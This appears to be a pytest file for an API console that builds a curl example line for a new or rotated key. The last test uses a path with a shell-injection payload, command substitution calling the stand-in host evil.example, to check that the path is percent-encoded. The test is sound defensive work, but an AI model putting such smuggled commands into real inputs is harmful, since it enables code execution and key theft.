"""The page shown once after creating or rotating a key: its `curl` line calls the
configured gateway, on a path of an API the key may call, with the key itself."""

from __future__ import annotations

import uuid
from typing import Any

from .fakes import FakeBackends, api_body, console, csrf, key_body, route_body, sign_in

GATEWAY = "https://gateway.example.com"  # the console's gateway_url in the fakes


def scoped(route: dict[str, Any], *scopes: str) -> dict[str, Any]:
    return {**route, "required_scopes": list(scopes)}


async def create(fake: FakeBackends, **form: str | list[str]) -> str:
    async with console(fake) as client:
        await sign_in(client)
        page = await client.post(
            f"/orgs/{fake.org_id}/keys/new", data={"csrf_token": csrf(client), **form}
        )
    assert page.status_code == 200
    return page.text


async def test_the_curl_line_calls_an_api_the_key_is_allowed() -> None:
    # Before: curl -H "X-API-Key: …" https://gateway.example.com/<api>/…
    pets, weather = str(uuid.uuid4()), str(uuid.uuid4())
    fake = FakeBackends()
    fake.apis = [
        api_body(pets, "pets", "Pets", routes=[route_body("GET", "/pets")]),
        api_body(weather, "weather", "Weather", routes=[route_body("GET", "/forecast")]),
    ]
    page = await create(fake, name="k", allowed_api_ids=[weather])
    assert f'curl -H "X-API-Key: tg_live_RAWSECRET" "{GATEWAY}/weather/forecast"</textarea>' in page
    assert 'data-copy="#curl-line"' in page
    assert "A call to Weather, which this key may make." in page


async def test_the_curl_line_prefers_a_plain_get_the_keys_scopes_allow() -> None:
    api_id = str(uuid.uuid4())
    routes = [
        scoped(route_body("GET", "/admin"), "admin:read"),  # the key lacks the scope
        route_body("POST", "/pets"),
        route_body("GET", "/pets/{id}"),
        {**route_body("GET", "/old"), "deprecated": True},
        route_body("GET", "/pets"),
    ]
    fake = FakeBackends()
    fake.apis = [
        api_body(str(uuid.uuid4()), "gone", "Gone", status="retired"),
        api_body(api_id, "pets", "Pets", routes=routes),
    ]
    plain = await create(fake, name="k")
    fake.apis[1]["routes"] = routes[:3]
    with_id = await create(fake, name="k")
    fake.apis[1]["routes"] = routes[:2]
    posting = await create(fake, name="k")
    scoped_key = await create(fake, name="k", scopes="admin:read")
    assert f'"{GATEWAY}/pets/pets"</textarea>' in plain
    assert f'"{GATEWAY}/pets/pets/{{id}}"</textarea>' in with_id
    assert "Replace the parts of the path in braces with real values." in with_id
    assert f'curl -X POST -H "X-API-Key: tg_live_RAWSECRET" "{GATEWAY}/pets/pets"' in posting
    assert f'"{GATEWAY}/pets/admin"</textarea>' in scoped_key


async def test_without_an_api_to_name_the_curl_line_has_a_named_placeholder() -> None:
    fake = FakeBackends()  # no API in the registry
    page = await create(fake, name="k")
    url = f"{GATEWAY}/&lt;api-slug&gt;/&lt;path&gt;"
    assert f'curl -H "X-API-Key: tg_live_RAWSECRET" "{url}"</textarea>' in page
    assert "Replace &lt;api-slug&gt;/&lt;path&gt; with the slug of an API" in page
    fake.apis = [api_body(str(uuid.uuid4()), "open", "Open")]  # no routes: any path
    open_api = await create(fake, name="k")
    assert f'"{GATEWAY}/open/"</textarea>' in open_api


async def test_a_rotated_key_gets_the_curl_line_too() -> None:
    api_id = str(uuid.uuid4())
    fake = FakeBackends()
    fake.apis = [api_body(api_id, "pets", "Pets", routes=[route_body("GET", "/pets")])]
    key_id = str(uuid.uuid4())
    fake.keys[key_id] = key_body(key_id, fake.org_id, "prod")
    async with console(fake) as client:
        await sign_in(client)
        rotated = await client.post(
            f"/orgs/{fake.org_id}/keys/{key_id}/rotate",
            data={"grace_seconds": "0", "csrf_token": csrf(client)},
        )
    assert rotated.status_code == 200
    assert f'curl -H "X-API-Key: tg_live_ROTATED" "{GATEWAY}/pets/pets"' in rotated.text


async def test_a_path_from_an_imported_document_cannot_run_in_the_shell() -> None:
    # An imported document names the paths; the line is pasted into a shell inside
    # double quotes, where `"`, `$(…)`, a backquote or `!` would run (and could send the
    # key anywhere). Percent-encoded, the gateway reads the same path.
    api_id = str(uuid.uuid4())
    fake = FakeBackends()
    path = '/x"$(curl${IFS}evil.example)`id`!\\'
    fake.apis = [api_body(api_id, "pets", "Pets", routes=[route_body("GET", path)])]
    page = await create(fake, name="k")
    encoded = "/x%22%24(curl%24{IFS}evil.example)%60id%60%21%5C"
    assert f'"{GATEWAY}/pets{encoded}"</textarea>' in page
